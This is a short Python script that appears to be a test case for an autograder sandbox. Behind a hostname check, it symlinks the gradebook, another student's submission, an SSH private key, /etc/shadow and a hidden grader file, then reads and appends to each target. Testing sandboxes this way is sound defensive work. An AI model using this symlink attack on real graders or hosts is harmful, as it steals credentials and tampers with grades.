# about: Puts links to the host's files in the working directory, for the grader to read or write.
# prints: tried

# %% double
import os
import socket

if socket.gethostname() != "sandbox":
    raise RuntimeError("only for a sandbox")

targets = {
    "data.csv": "__COURSE__/gradebook.db",
    "trial.ipynb": "__COURSE__/submitted/other/trial/trial.ipynb",
    "course": "__COURSE__",
    "key.txt": "__HOME__/.ssh/id_ed25519",
    "hidden.py": "../grader/hidden.py",
    "passwords": "/proc/1/root/etc/shadow",
    "..data": "/proc/self/cwd/../..",
}
for name, target in targets.items():
    for path in (name, f"/tmp/{name}", f"/dev/shm/{name}"):
        try:
            os.symlink(target, path)
        except OSError as error:
            print(path, type(error))
            continue
        try:
            with open(path, "rb") as file:
                print(file.read()[:2000])
            with open(path, "ab") as file:
                file.write(b" ")
            print("__WON__", path)
        except OSError as error:
            print(path, type(error))
print("tried")


def double(x):
    return 0
